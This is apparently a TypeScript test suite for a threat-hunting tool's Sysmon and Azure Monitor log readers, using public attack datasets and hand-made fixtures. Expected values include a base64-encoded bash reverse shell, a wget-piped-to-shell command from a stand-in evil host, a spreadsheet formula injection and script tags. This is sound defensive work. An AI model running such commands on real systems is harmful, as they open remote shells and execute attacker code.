/**
 * @module
 * Windows and Sysmon events as JSON (NXLog/Logstash flat fields, Winlogbeat) and Azure
 * Monitor exports (WindowsEvent, Event, Syslog with Sysmon for Linux, VMConnection): every
 * public sample counted and detected, chosen records checked field by field after
 * normalisation, and fixtures for escapes, broken records, hostile values, BOM, CRLF and gzip.
 */
import assert from 'node:assert/strict'
import { mkdtemp, readFile, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { Readable } from 'node:stream'
import { describe, test } from 'node:test'
import { fileURLToPath } from 'node:url'
import { gzipSync } from 'node:zlib'
import type { LogEvent } from '../src/logs/event.ts'
import { blankEvent } from '../src/logs/event.ts'
import { type LogInput, listLogInputs, peekText } from '../src/logs/input.ts'
import { azureMonitorReader } from '../src/logs/readers/azure-monitor.ts'
import { parseEventXml, readEventXml, scanEventXml } from '../src/logs/readers/event-xml.ts'
import { detectLogFormat, readLogEvents } from '../src/logs/readers/index.ts'
import { forEachJsonRecord } from '../src/logs/readers/json-records.ts'
import { sysmonJsonReader } from '../src/logs/readers/sysmon-json.ts'
import { applyHashes, splitQueryResults, windowsLogOf } from '../src/logs/readers/windows-event.ts'
import { requireSharedData } from './support/shared-data.ts'

const FIXTURES = fileURLToPath(new URL('./fixtures/logs/windows/', import.meta.url))

function kinds(events: readonly LogEvent[]): Record<string, number> {
  const counts: Record<string, number> = {}
  for (const e of events) counts[e.EventType] = (counts[e.EventType] ?? 0) + 1
  return counts
}

function at<T>(list: readonly T[], i: number): T {
  const value = list[i]
  assert.ok(value !== undefined, `item ${i} missing`)
  return value
}

function record(events: readonly LogEvent[], n: number): LogEvent {
  const found = events.find((e) => e.SourceRecord === n)
  assert.ok(found, `record ${n} missing`)
  return found
}

/** Only the columns a test names; the rest must be null/empty, checked by `onlyThese`. */
function pick(event: LogEvent, keys: readonly (keyof LogEvent)[]): Partial<LogEvent> {
  const out: Partial<LogEvent> = {}
  for (const k of keys) (out as Record<string, unknown>)[k] = event[k]
  return out
}

function filled(event: LogEvent): Record<string, unknown> {
  const out: Record<string, unknown> = {}
  for (const [k, v] of Object.entries(event)) {
    if (k === 'SourceFile' || k === 'LogFormat') continue
    if (v === null || (Array.isArray(v) && v.length === 0)) continue
    out[k] = v
  }
  return out
}

describe('sysmon-json: OTRF Security-Datasets samples', () => {
  // Counts by Channel/EventID taken with Python's json module over every line:
  // network = Sysmon 3 + Security 5156 + 5158, process = Sysmon 1 + Security 4688,
  // file = Sysmon 7 + 11 + 23, dns = Sysmon 22.
  const files: [string, number, Record<string, number>][] = [
    [
      'cmd_bitsadmin_download_psh_script_2020-10-2302365189.json',
      424,
      { network: 8 + 12 + 6, process: 2 + 2, file: 141 + 6 + 2, dns: 3, other: 242 },
    ],
    [
      'covenant_psremoting_grunt.zip!covenant_psremoting_grunt_2019-12-05014931.json',
      4305,
      { network: 276 + 339 + 263, process: 17 + 17, file: 905 + 205, dns: 20, other: 2263 },
    ],
    [
      'psh_cmstp_execution_bypassuac_2020-10-2201543213.json',
      1166,
      { network: 2 + 7 + 7, process: 5 + 5, file: 185 + 12, dns: 205, other: 738 },
    ],
  ]

  test('every file is detected as sysmon-json and every record becomes an event', async (t) => {
    const dir = requireSharedData(t, 'logs/sysmon-json/otrf-atomic')
    if (!dir) return
    const inputs = await listLogInputs([dir])
    assert.deepEqual(
      inputs.map((i) => i.name.slice(dir.length + 1)),
      files.map(([name]) => name).sort(),
    )
    for (const input of inputs) {
      assert.equal((await detectLogFormat(input)).id, 'sysmon-json', input.name)
    }
    const { events, stats } = await readLogEvents([dir])
    assert.deepEqual(stats.broken, [])
    for (const [name, count, byKind] of files) {
      const mine: LogEvent[] = events.filter((e) => e.SourceFile === `${dir}/${name}`)
      assert.equal(mine.length, count, name)
      assert.deepEqual(kinds(mine), byKind, name)
      assert.ok(
        mine.every((e, i) => e.SourceRecord === i + 1 && e.SourceLine === i + 1),
        `${name}: one record a line, in order`,
      )
      assert.ok(
        mine.every((e) => e.TimeGenerated !== null && e.Dvc !== null),
        name,
      )
    }
  })

  test('Sysmon process create: hashes split, time from UtcTime, not the local @timestamp', async (t) => {
    const file = requireSharedData(
      t,
      'logs/sysmon-json/otrf-atomic/cmd_bitsadmin_download_psh_script_2020-10-2302365189.json',
    )
    if (!file) return
    const { events } = await readLogEvents([file])
    assert.deepEqual(filled(record(events, 118)), {
      TimeGenerated: '2020-10-23T06:36:43.542Z',
      EventType: 'process',
      FileMD5: 'a23a7a6b6f8e1a5d913ea119f5f2ed1a',
      FileSHA1: '282da9ee622f01cc63352e53fdc3d4a75ceeb6fd',
      FileSHA256: 'eaae8536d554d0e86d8540a8b34db2649bd884843f389495d0b6e91636c6cf54',
      Dvc: 'WORKSTATION5',
      User: 'WORKSTATION5\\wardog',
      Process: 'C:\\Windows\\System32\\bitsadmin.exe',
      CommandLine:
        'bitsadmin.exe  /transfer /Download /priority Foreground https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1197/T1197.md C:\\Users\\wardog\\AppData\\Local\\Temp\\bitsadmin1_flag.ps1',
      SourceLine: 118,
      SourceRecord: 118,
    })
    // Security 4688 has no UtcTime: @timestamp; the account is the subject (target is `-`).
    assert.deepEqual(
      pick(record(events, 3), ['EventType', 'Process', 'User', 'TimeGenerated', 'CommandLine']),
      {
        EventType: 'process',
        Process: 'C:\\Windows\\System32\\bitsadmin.exe',
        User: 'WORKSTATION5\\wardog',
        TimeGenerated: '2020-10-23T02:36:43.542Z',
        CommandLine: record(events, 118).CommandLine,
      },
    )
    // DNS: the CNAME and the IPv4-mapped address are both answers.
    assert.deepEqual(
      pick(record(events, 388), ['EventType', 'DnsQuery', 'DnsResponse', 'Process']),
      {
        EventType: 'dns',
        DnsQuery: 'raw.githubusercontent.com',
        DnsResponse: ['github.map.fastly.net', '151.101.208.133'],
        Process: 'C:\\windows\\System32\\svchost.exe',
      },
    )
  })

  test('inbound connections keep the remote initiator as source (Sysmon 3 and WFP 5156)', async (t) => {
    const zip = requireSharedData(t, 'logs/sysmon-json/otrf-atomic/covenant_psremoting_grunt.zip')
    if (!zip) return
    const { events } = await readLogEvents([zip])
    // The domain controller logs IT001's LDAP connection: Initiated false, source = IT001.
    assert.deepEqual(filled(record(events, 306)), {
      TimeGenerated: '2019-12-05T01:49:48.423Z',
      EventType: 'network',
      SrcIpAddr: '172.18.39.105',
      SrcPortNumber: 50633,
      DstIpAddr: '172.18.39.5',
      DstPortNumber: 389,
      NetworkProtocol: 'tcp',
      TargetHostname: 'hfdc01.shire.com',
      Dvc: 'HFDC01.shire.com',
      User: 'NT AUTHORITY\\SYSTEM',
      Process: 'C:\\Windows\\System32\\lsass.exe',
      SourceLine: 306,
      SourceRecord: 306,
    })
    // The same connection in the Security log, Direction %%14592 (inbound).
    assert.deepEqual(filled(record(events, 168)), {
      TimeGenerated: '2019-12-05T01:49:49.306Z',
      EventType: 'network',
      SrcIpAddr: '172.18.39.105',
      SrcPortNumber: 50633,
      DstIpAddr: '172.18.39.5',
      DstPortNumber: 389,
      NetworkProtocol: 'tcp',
      Dvc: 'HFDC01.shire.com',
      Process: '\\device\\harddiskvolume1\\windows\\system32\\lsass.exe',
      DvcAction: 'allow',
      SourceLine: 168,
      SourceRecord: 168,
    })
    assert.deepEqual(record(events, 1838).DnsResponse, [
      'audownload.windowsupdate.nsatc.net',
      'au.download.windowsupdate.com.edgesuite.net',
      'a767.dscg3.akamai.net',
      '23.63.247.25',
      '23.63.247.34',
      '23.63.247.18',
    ])
    assert.equal(record(events, 1838).DnsQuery, 'ctldl.windowsupdate.com')
    assert.equal(record(events, 1838).Dvc, 'FILE001.shire.com')
  })

  test('WFP 5158 (bind) has a local address and port only', async (t) => {
    const file = requireSharedData(
      t,
      'logs/sysmon-json/otrf-atomic/psh_cmstp_execution_bypassuac_2020-10-2201543213.json',
    )
    if (!file) return
    const { events } = await readLogEvents([file])
    assert.deepEqual(
      pick(record(events, 2), [
        'EventType',
        'SrcIpAddr',
        'SrcPortNumber',
        'DstIpAddr',
        'DstPortNumber',
        'NetworkProtocol',
        'DvcAction',
      ]),
      {
        EventType: 'network',
        SrcIpAddr: '0.0.0.0',
        SrcPortNumber: 52092,
        DstIpAddr: null,
        DstPortNumber: null,
        NetworkProtocol: 'tcp',
        DvcAction: 'allow',
      },
    )
  })
})

describe('azure-monitor: OTRF Log4Shell exports', () => {
  const files: [string, number, Record<string, number>][] = [
    // Sysmon for Linux EventIDs counted in SyslogMessage: 5 ×50, 1 ×31, 3 ×6, 11 ×4, 23 ×2.
    [
      'syslog_sysmon_log4shell_cve2021_44228_jndi_reference_2022-05-11181020.json',
      93,
      { other: 50, process: 31, network: 6, file: 4 + 2 },
    ],
    // WindowsEvent EventIDs: 12 ×292, 7 ×155, 10 ×12, 18 ×6, 3 ×5, 11 ×4, 17 ×4, 26 ×3,
    // 22 ×2, 5 ×2, 1 ×2.
    [
      'sysmon_log4shell_cve2021_44228_java_serialized_object_2022-05-13045800.json',
      487,
      { other: 292 + 12 + 6 + 4 + 2, file: 155 + 4 + 3, network: 5, dns: 2, process: 2 },
    ],
    [
      'vminsights_vmconnection_log4shell_cve2021_44228_jndi_reference_2022-05-11181020.json',
      5,
      { network: 5 },
    ],
  ]

  test('every file is detected as azure-monitor and every row becomes an event', async (t) => {
    const dir = requireSharedData(t, 'logs/azure-monitor')
    if (!dir) return
    const inputs = await listLogInputs([dir])
    assert.equal(inputs.length, files.length)
    for (const input of inputs) {
      assert.equal((await detectLogFormat(input)).id, 'azure-monitor', input.name)
      assert.equal(sysmonJsonReader.detect(await peekText(input), input.name), false)
    }
    const { events, stats } = await readLogEvents([dir])
    assert.deepEqual(stats.broken, [])
    for (const [name, count, byKind] of files) {
      const mine: LogEvent[] = events.filter((e) => e.SourceFile === `${dir}/${name}`)
      assert.equal(mine.length, count, name)
      assert.deepEqual(kinds(mine), byKind, name)
      assert.ok(
        mine.every((e) => e.TimeGenerated !== null && e.Dvc !== null),
        name,
      )
    }
  })

  test('Syslog: Sysmon for Linux XML inside SyslogMessage', async (t) => {
    const file = requireSharedData(
      t,
      'logs/azure-monitor/syslog_sysmon_log4shell_cve2021_44228_jndi_reference_2022-05-11181020.json',
    )
    if (!file) return
    const { events } = await readLogEvents([file])
    assert.deepEqual(filled(record(events, 8)), {
      TimeGenerated: '2022-05-11T18:10:21.998Z',
      EventType: 'process',
      Dvc: 'UBUNTU5',
      User: 'tomcat',
      Process: '/bin/bash',
      CommandLine:
        'bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}',
      SourceLine: 8,
      SourceRecord: 8,
    })
    assert.deepEqual(
      pick(record(events, 6), [
        'SrcIpAddr',
        'SrcPortNumber',
        'DstIpAddr',
        'DstPortNumber',
        'Process',
      ]),
      {
        SrcIpAddr: '192.168.2.5',
        SrcPortNumber: 41696,
        DstIpAddr: '192.168.2.6',
        DstPortNumber: 1389,
        Process: '/usr/lib/jvm/java-8-openjdk-amd64/jre/bin/java',
      },
    )
  })

  test('WindowsEvent: EventData JSON, inbound Sysmon 3, DNS, hashes', async (t) => {
    const file = requireSharedData(
      t,
      'logs/azure-monitor/sysmon_log4shell_cve2021_44228_java_serialized_object_2022-05-13045800.json',
    )
    if (!file) return
    const { events } = await readLogEvents([file])
    assert.deepEqual(filled(record(events, 1)), {
      TimeGenerated: '2022-05-13T08:54:05.123Z',
      EventType: 'network',
      SrcIpAddr: '192.168.3.5',
      SrcPortNumber: 50452,
      DstIpAddr: '192.168.2.5',
      DstPortNumber: 8080,
      NetworkProtocol: 'tcp',
      Dvc: 'WORKSTATION5',
      User: 'NT AUTHORITY\\LOCAL SERVICE',
      Process:
        'C:\\ProgramData\\chocolatey\\lib\\Tomcat\\tools\\apache-tomcat-9.0.62\\bin\\tomcat9.exe',
      SourceLine: 1,
      SourceRecord: 1,
    })
    assert.deepEqual(pick(record(events, 14), ['EventType', 'DnsQuery', 'DnsResponse']), {
      EventType: 'dns',
      DnsQuery: 'workstation5',
      DnsResponse: ['fe80::798a:6744:8c18:1b47', '192.168.2.5'],
    })
    assert.deepEqual(pick(record(events, 28), ['FileMD5', 'FileSHA1', 'FileSHA256', 'Process']), {
      FileMD5: '04029e121a0cfa5991749937dd22a1d9',
      FileSHA1: 'f43d9bb316e30ae1a3494ac5b0624f6bea1bf054',
      FileSHA256: '9f914d42706fe215501044acd85a32d58aaef1419d404fddfa5d3b48f66ccd9f',
      Process: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    })
  })

  test('VMConnection: an inbound row has the remote initiator as source', async (t) => {
    const file = requireSharedData(
      t,
      'logs/azure-monitor/vminsights_vmconnection_log4shell_cve2021_44228_jndi_reference_2022-05-11181020.json',
    )
    if (!file) return
    const { events } = await readLogEvents([file])
    assert.deepEqual(filled(record(events, 3)), {
      TimeGenerated: '2022-05-11T18:09:38.868Z',
      EventType: 'network',
      SrcIpAddr: '192.168.2.6',
      DstIpAddr: '192.168.2.5',
      DstPortNumber: 8080,
      NetworkProtocol: 'tcp',
      Dvc: 'UBUNTU5',
      Process: 'java',
      SourceLine: 3,
      SourceRecord: 3,
    })
  })
})

describe('sysmon-json fixtures', () => {
  test('BOM, CRLF, a blank line, broken lines, hostile values and every mapped event id', async () => {
    const file = join(FIXTURES, 'sysmon-flat.json')
    const { events, stats } = await readLogEvents([file])
    assert.deepEqual(
      stats.broken.map((b) => [b.line, b.record, b.reason.split(':')[0]]),
      [
        [6, 5, 'not JSON'],
        [11, 10, 'not a JSON object'],
      ],
    )
    assert.deepEqual(
      events.map((e) => [e.SourceLine, e.SourceRecord, e.EventType]),
      [
        [1, 1, 'process'],
        [2, 2, 'network'],
        [3, 3, 'network'],
        [4, 4, 'dns'],
        [7, 6, 'network'],
        [8, 7, 'network'],
        [9, 8, 'file'],
        [10, 9, 'other'],
        [12, 11, 'process'],
      ],
    )
    const create = at(events, 0)
    const inbound = at(events, 1)
    const outbound = at(events, 2)
    const dns = at(events, 3)
    const wfpIn = at(events, 4)
    const wfpBlocked = at(events, 5)
    const stream = at(events, 6)
    const logon = at(events, 7)
    const security4688 = at(events, 8)
    assert.deepEqual(
      pick(create, [
        'TimeGenerated',
        'Process',
        'CommandLine',
        'User',
        'FileMD5',
        'FileSHA1',
        'FileSHA256',
      ]),
      {
        TimeGenerated: '2024-03-01T10:00:01.250Z',
        Process: 'C:\\Users\\bob\\AppData\\Local\\Temp\\"evil".exe',
        CommandLine:
          "cmd.exe /c \"echo <script>alert('x')</script>\" & =cmd|' /C calc'!A0\r\nsecond line \\\\share\\x",
        User: 'CORP\\bob',
        FileMD5: '0123456789abcdef0123456789abcdef',
        FileSHA1: null,
        FileSHA256: 'a'.repeat(64),
      },
    )
    assert.deepEqual(
      pick(inbound, [
        'SrcIpAddr',
        'SrcPortNumber',
        'DstIpAddr',
        'DstPortNumber',
        'TargetHostname',
        'Dvc',
      ]),
      {
        SrcIpAddr: '10.0.0.23',
        SrcPortNumber: 50123,
        DstIpAddr: '10.0.0.5',
        DstPortNumber: 389,
        TargetHostname: 'dc01.corp.example',
        Dvc: 'DC01.corp.example',
      },
    )
    // No UtcTime: @timestamp; `-` is no value; an IPv4-mapped source is unwrapped.
    assert.deepEqual(
      pick(outbound, ['TimeGenerated', 'SrcIpAddr', 'User', 'TargetHostname', 'DstIpAddr']),
      {
        TimeGenerated: '2024-03-01T10:00:07.000Z',
        SrcIpAddr: '10.0.0.23',
        User: null,
        TargetHostname: null,
        DstIpAddr: '203.0.113.50',
      },
    )
    assert.deepEqual(pick(dns, ['DnsQuery', 'DnsResponse']), {
      DnsQuery: 'beacon.evil.example',
      DnsResponse: ['edge.cdn.example.net', 'a1.cdn.example.net', '198.51.100.7', '2001:db8::7'],
    })
    assert.deepEqual(
      pick(wfpIn, [
        'SrcIpAddr',
        'SrcPortNumber',
        'DstIpAddr',
        'DstPortNumber',
        'NetworkProtocol',
        'DvcAction',
      ]),
      {
        SrcIpAddr: '10.0.0.23',
        SrcPortNumber: 50123,
        DstIpAddr: '10.0.0.5',
        DstPortNumber: 389,
        NetworkProtocol: 'tcp',
        DvcAction: 'allow',
      },
    )
    assert.deepEqual(pick(wfpBlocked, ['NetworkProtocol', 'DvcAction', 'DstPortNumber']), {
      NetworkProtocol: 'udp',
      DvcAction: 'deny',
      DstPortNumber: 8443,
    })
    assert.deepEqual(pick(stream, ['FileMD5', 'FileSHA1', 'FileSHA256']), {
      FileMD5: '2'.repeat(32),
      FileSHA1: '1'.repeat(40),
      FileSHA256: null,
    })
    assert.deepEqual(filled(logon), {
      TimeGenerated: '2024-03-01T10:00:12.000Z',
      EventType: 'other',
      Dvc: 'WS01.corp.example',
      SourceLine: 10,
      SourceRecord: 9,
    })
    // NXLog's EventTime (no zone) is the last resort and read as UTC.
    assert.deepEqual(pick(security4688, ['TimeGenerated', 'User', 'Process', 'CommandLine']), {
      TimeGenerated: '2024-03-01T05:00:13.000Z',
      User: 'CORP\\bob',
      Process: 'C:\\Windows\\System32\\whoami.exe',
      CommandLine: 'whoami /all',
    })
  })

  test('Winlogbeat nested winlog objects, gzipped', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'huntpack-windows-'))
    const file = join(dir, 'winlogbeat.log')
    await writeFile(file, gzipSync(await readFile(join(FIXTURES, 'winlogbeat.ndjson'))))
    const input = at(await listLogInputs([file]), 0)
    assert.equal((await detectLogFormat(input)).id, 'sysmon-json')
    const { events, stats } = await readLogEvents([file])
    assert.deepEqual(stats.broken, [])
    assert.deepEqual(
      events.map((e) => pick(e, ['EventType', 'Dvc', 'TimeGenerated', 'DnsQuery', 'DstIpAddr'])),
      [
        {
          EventType: 'dns',
          Dvc: 'WS02.corp.example',
          TimeGenerated: '2024-03-02T08:29:59.900Z',
          DnsQuery: 'update.example.org',
          DstIpAddr: null,
        },
        {
          EventType: 'network',
          Dvc: 'ws02',
          TimeGenerated: '2024-03-02T08:30:01.000Z',
          DnsQuery: null,
          DstIpAddr: '192.0.2.10',
        },
        {
          EventType: 'other',
          Dvc: 'WS02.corp.example',
          TimeGenerated: '2024-03-02T08:30:02.000Z',
          DnsQuery: null,
          DstIpAddr: null,
        },
      ],
    )
    assert.deepEqual(at(events, 0).DnsResponse, ['192.0.2.10'])
  })
})

describe('sysmon-json: event XML as JSON (evtx_dump and similar converters)', () => {
  test('System and EventData objects, #attributes, #text and Value forms', async () => {
    const file = join(FIXTURES, 'evtx-dump.jsonl')
    const input = at(await listLogInputs([file]), 0)
    assert.equal((await detectLogFormat(input)).id, 'sysmon-json')
    const { events, stats } = await readLogEvents([file])
    assert.deepEqual(stats.broken, [])
    assert.deepEqual(filled(at(events, 0)), {
      TimeGenerated: '2024-03-07T11:00:00.250Z',
      EventType: 'network',
      SrcIpAddr: '10.7.0.7',
      SrcPortNumber: 50777,
      DstIpAddr: '203.0.113.77',
      DstPortNumber: 443,
      NetworkProtocol: 'tcp',
      TargetHostname: 'c2.bad.example',
      Dvc: 'WS07.corp.example',
      User: 'CORP\\eve',
      Process: 'C:\\Users\\eve\\x.exe',
      SourceLine: 1,
      SourceRecord: 1,
    })
    assert.deepEqual(
      pick(at(events, 1), [
        'TimeGenerated',
        'EventType',
        'NetworkProtocol',
        'DstPortNumber',
        'DvcAction',
      ]),
      {
        TimeGenerated: '2024-03-07T11:00:01.000Z',
        EventType: 'network',
        NetworkProtocol: 'tcp',
        DstPortNumber: 443,
        DvcAction: 'allow',
      },
    )
    assert.deepEqual(filled(at(events, 2)), {
      TimeGenerated: '2024-03-07T11:00:02.000Z',
      EventType: 'other',
      Dvc: 'WS07.corp.example',
      SourceLine: 3,
      SourceRecord: 3,
    })
    assert.deepEqual(pick(at(events, 3), ['EventType', 'FileSHA1', 'Process', 'TimeGenerated']), {
      EventType: 'file',
      FileSHA1: '5'.repeat(40),
      Process: 'C:\\Windows\\splwow64.exe',
      TimeGenerated: '2024-03-07T11:00:03.000Z',
    })
  })
})

describe('azure-monitor fixtures', () => {
  test('Event table as a pretty-printed JSON array: XML EventData, entities, other tables', async () => {
    const file = join(FIXTURES, 'azure-event-array.json')
    const input = at(await listLogInputs([file]), 0)
    assert.equal((await detectLogFormat(input)).id, 'azure-monitor')
    const { events, stats } = await readLogEvents([file])
    assert.deepEqual(stats.broken, [
      {
        file,
        line: 48,
        record: 5,
        reason: 'unreadable Event event data: event XML with a DOCTYPE',
      },
    ])
    // Each record's line is the line of its opening brace.
    assert.deepEqual(
      events.map((e) => [e.SourceLine, e.SourceRecord, e.EventType]),
      [
        [2, 1, 'network'],
        [17, 2, 'process'],
        [28, 3, 'dns'],
        [38, 4, 'other'],
        [58, 6, 'other'],
      ],
    )
    assert.deepEqual(
      pick(at(events, 0), [
        'TimeGenerated',
        'SrcIpAddr',
        'DstIpAddr',
        'DstPortNumber',
        'TargetHostname',
        'User',
        'Dvc',
      ]),
      {
        TimeGenerated: '2024-03-03T12:00:01.000Z',
        SrcIpAddr: '10.2.0.3',
        DstIpAddr: '198.51.100.80',
        DstPortNumber: 8080,
        TargetHostname: 'c2.bad.example',
        User: 'CORP\\svc_app',
        Dvc: 'SRV03.corp.example',
      },
    )
    assert.equal(
      at(events, 1).CommandLine,
      'cmd /c "x" & echo <script>alert(1)</script> =cmd|\'/C calc\'!A0\nline2 \\\\srv\\share',
    )
    assert.equal(at(events, 1).FileSHA1, '3'.repeat(40))
    assert.deepEqual(pick(at(events, 2), ['DnsQuery', 'DnsResponse', 'User']), {
      DnsQuery: 'c2.bad.example',
      DnsResponse: ['c2-edge.bad.example', '198.51.100.80'],
      User: null,
    })
    // Positional (unnamed) data of a non-Sysmon event, and a Heartbeat row: time and host only.
    assert.deepEqual(filled(at(events, 3)), {
      TimeGenerated: '2024-03-03T12:00:12.000Z',
      EventType: 'other',
      Dvc: 'SRV03.corp.example',
      SourceLine: 38,
      SourceRecord: 4,
    })
    assert.equal(at(events, 4).TimeGenerated, '2024-03-03T12:00:14.000Z')
  })

  test('Syslog rows: plain messages, Sysmon for Linux XML with entities, a DOCTYPE refused', async () => {
    const file = join(FIXTURES, 'azure-syslog.json')
    const { events, stats } = await readLogEvents([file])
    assert.deepEqual(stats.broken, [
      {
        file,
        line: 5,
        record: 5,
        reason: 'unreadable Syslog event data: event XML with a DOCTYPE',
      },
    ])
    assert.equal(events.length, 4)
    assert.deepEqual(filled(at(events, 0)), {
      TimeGenerated: '2024-03-04T07:00:00.000Z',
      EventType: 'other',
      Dvc: 'lnx04',
      Process: 'sshd',
      SourceLine: 1,
      SourceRecord: 1,
    })
    assert.deepEqual(
      pick(at(events, 1), [
        'TimeGenerated',
        'SrcIpAddr',
        'DstIpAddr',
        'DstPortNumber',
        'Dvc',
        'User',
      ]),
      {
        TimeGenerated: '2024-03-04T07:00:01.250Z',
        SrcIpAddr: '2001:db8::4',
        DstIpAddr: '2001:db8::99',
        DstPortNumber: 443,
        Dvc: 'LNX04',
        User: 'www-data',
      },
    )
    assert.deepEqual(pick(at(events, 2), ['CommandLine', 'User', 'FileMD5', 'EventType']), {
      CommandLine: 'sh -c "wget http://evil.example/x.sh -O- | sh" <script>',
      User: null,
      FileMD5: null,
      EventType: 'process',
    })
    // No UtcTime: the System TimeCreated.
    assert.equal(at(events, 3).TimeGenerated, '2024-03-04T07:00:03.500Z')
  })

  test('WindowsEvent rows: EventData as object or text, unreadable EventData is broken', async () => {
    const file = join(FIXTURES, 'azure-windowsevent.json')
    const { events, stats } = await readLogEvents([file])
    assert.equal(stats.broken.length, 1)
    assert.deepEqual([at(stats.broken, 0).line, at(stats.broken, 0).record], [3, 3])
    assert.deepEqual(
      events.map((e) => [e.SourceRecord, e.EventType, e.SrcIpAddr, e.DnsQuery]),
      [
        [1, 'network', '203.0.113.9', null],
        [2, 'dns', null, 'ldap.bad.example'],
        [4, 'other', null, null],
      ],
    )
    assert.equal(at(events, 0).TimeGenerated, '2024-03-05T08:59:59.123Z')
    assert.equal(at(events, 2).TimeGenerated, '2024-03-05T09:00:03.000Z')
  })

  test('VMConnection as a one-line JSON array: ports as numbers or text', async () => {
    const file = join(FIXTURES, 'vmconnection-array.json')
    const { events, stats } = await readLogEvents([file])
    assert.deepEqual(stats.broken, [{ file, line: 1, record: 3, reason: 'not a JSON object' }])
    assert.deepEqual(
      events.map((e) => [e.SrcIpAddr, e.SrcPortNumber, e.DstIpAddr, e.DstPortNumber, e.Process]),
      [
        ['198.51.100.66', null, '10.6.0.6', 443, 'nginx'],
        ['10.6.0.6', null, '192.0.2.200', 80, 'curl'],
        ['10.6.0.6', null, '192.0.2.53', null, 'dig'],
      ],
    )
    assert.deepEqual(
      events.map((e) => [e.SourceLine, e.SourceRecord]),
      [
        [1, 1],
        [1, 2],
        [1, 4],
      ],
    )
  })
})

describe('detection claims only what it recognises', () => {
  const line = (o: object) => `${JSON.stringify(o)}\n`
  const heads: [string, string][] = [
    ['zeek json', line({ ts: 1, uid: 'C1', 'id.orig_h': '10.0.0.1', query: 'a.example' })],
    [
      'suricata eve',
      line({ timestamp: '2024-01-01T00:00:00Z', event_type: 'dns', src_ip: '1.2.3.4' }),
    ],
    [
      'defender advanced hunting',
      line({ Timestamp: '2024-01-01T00:00:00Z', DeviceId: 'd', ActionType: 'ConnectionSuccess' }),
    ],
    [
      'CommonSecurityLog export',
      line({
        TenantId: 't',
        Type: 'CommonSecurityLog',
        DeviceVendor: 'Fortinet',
        SourceIP: '1.2.3.4',
      }),
    ],
    [
      'SecurityEvent export',
      line({
        TenantId: 't',
        Type: 'SecurityEvent',
        EventID: 4688,
        Channel: 'Security',
        Computer: 'x',
      }),
    ],
    ['python-evtx dump', line({ event_id: 3, channel: 'Security', event_data: {} })],
    ['plain text', 'Jan  1 00:00:00 host sshd[1]: Accepted\n'],
  ]
  for (const [name, head] of heads) {
    test(`neither reader claims ${name}`, () => {
      assert.equal(sysmonJsonReader.detect(head, 'x.json'), false)
      assert.equal(azureMonitorReader.detect(head, 'x.json'), false)
    })
  }

  test('a JSON array cut by the 64 KiB head still shows its first record', () => {
    const row = { Type: 'VMConnection', SourceIp: '10.0.0.1', Note: 'brace } and "quote" [' }
    const head = `[\n  ${JSON.stringify(row)},\n  {"Type": "VMConn`
    assert.equal(azureMonitorReader.detect(head, 'x.json'), true)
    assert.equal(azureMonitorReader.detect(head.slice(0, 20), 'x.json'), false)
  })

  test('the real samples of other formats are not claimed', async (t) => {
    const dir = requireSharedData(t, 'logs')
    if (!dir) return
    const others = [
      'defender/Microsoft365DefenderEvents.json',
      'suricata/surevego/eve.json',
      'zeek/otrf-apt29-json/day1/NASHUA_dns.log',
      'zeek/zed-sample-data/zeek-json/dns.json.gz',
      'evtx/_reference_python-evtx.records.jsonl',
    ]
    for (const rel of others) {
      const input: LogInput = at(await listLogInputs([join(dir, rel)]), 0)
      const head = await peekText(input)
      assert.equal(sysmonJsonReader.detect(head, input.name), false, rel)
      assert.equal(azureMonitorReader.detect(head, input.name), false, rel)
    }
  })

  test('a forced format on a file that is not it throws ERR_LOG_FORMAT naming the file', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'huntpack-windows-'))
    const zeek = join(dir, 'dns.json')
    await writeFile(zeek, line({ ts: 1, uid: 'C1', query: 'a.example' }))
    await assert.rejects(readLogEvents([zeek], { format: 'sysmon-json' }), (error: Error) => {
      assert.equal((error as { code?: string }).code, 'ERR_LOG_FORMAT')
      assert.ok(error.message.startsWith(zeek))
      return true
    })
    await assert.rejects(
      readLogEvents([join(FIXTURES, 'sysmon-flat.json')], { format: 'azure-monitor' }),
      { code: 'ERR_LOG_FORMAT' },
    )
  })

  test('an array cut short keeps its whole records and reports the cut one', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'huntpack-windows-'))
    const array = join(dir, 'export.json')
    await writeFile(array, '[{"Type": "VMConnection", "SourceIp": "10.0.0.1"},\n{"Type": ')
    const { events, stats } = await readLogEvents([array])
    assert.deepEqual(
      events.map((e) => [e.SourceLine, e.SourceRecord, e.SrcIpAddr]),
      [[1, 1, '10.0.0.1']],
    )
    assert.deepEqual(stats.broken, [
      { file: array, line: 2, record: 2, reason: 'the array ends inside this record' },
    ])
  })
})

describe('windows-event helpers', () => {
  test('QueryResults: record-type prefixes and IPv4-mapped answers', () => {
    assert.deepEqual(splitQueryResults('type:  5 edge.example.net;::ffff:1.2.3.4;'), [
      'edge.example.net',
      '1.2.3.4',
    ])
    assert.deepEqual(splitQueryResults('type:  12 host.example.internal;'), [
      'host.example.internal',
    ])
    assert.deepEqual(splitQueryResults('::1;::ffff:127.0.0.1;fe80::1;'), [
      '::1',
      '127.0.0.1',
      'fe80::1',
    ])
    assert.deepEqual(splitQueryResults('-'), [])
    assert.deepEqual(splitQueryResults(''), [])
  })

  test('Hashes: any order and case, IMPHASH and junk ignored', () => {
    const e = blankEvent('t', 'f', 1, 1)
    applyHashes(e, 'imphash=00,sha256=AB,md5=CD,SHA1=EF,junk,=x')
    assert.deepEqual([e.FileMD5, e.FileSHA1, e.FileSHA256], ['CD', 'EF', 'AB'])
    const none = blankEvent('t', 'f', 1, 1)
    applyHashes(none, 'MD5=,SHA256')
    assert.deepEqual([none.FileMD5, none.FileSHA256], [null, null])
  })

  test('the log from channel or provider', () => {
    assert.equal(windowsLogOf('Microsoft-Windows-Sysmon/Operational', undefined), 'sysmon')
    assert.equal(windowsLogOf(undefined, 'Linux-Sysmon'), 'sysmon')
    assert.equal(windowsLogOf('security', 'x'), 'security')
    assert.equal(windowsLogOf(null, 'Microsoft-Windows-Security-Auditing'), 'security')
    assert.equal(windowsLogOf('System', 'Service Control Manager'), 'other')
  })
})

